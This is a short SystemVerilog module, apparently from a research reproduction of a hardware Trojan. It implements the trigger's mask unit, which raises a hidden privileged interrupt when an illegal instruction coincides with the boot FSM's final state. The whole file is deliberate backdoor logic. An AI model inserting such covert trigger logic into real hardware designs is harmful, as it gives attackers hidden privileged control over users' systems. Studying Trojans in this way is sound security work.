// hit_mask: the "MASK" unit of the Trojan.
//
// Combinational. Each bit of the boot FSM's mask gates its own copy of the
// illegal-instruction line; the hidden interrupt is raised only when every gated copy is
// high, that is when the Illegal Inst unit fires while the FSM is in its last state (the
// only state whose mask is all ones). A multi-bit mask instead of a single enable bit
// follows the source model (it spreads the Trojan's switching activity); the AND of all
// gated copies is this design's reading of how the bits are combined.
module hit_mask #(
  parameter int MASK_W = hit_pkg::MASK_W_DEF
) (
  input  logic              illegal,   // from hit_illegal_inst
  input  logic [MASK_W-1:0] mask,      // from hit_state
  output logic              int_req    // hidden privileged interrupt request
);
  logic [MASK_W-1:0] gated;
  assign gated   = mask & {MASK_W{illegal}};
  assign int_req = &gated;
endmodule
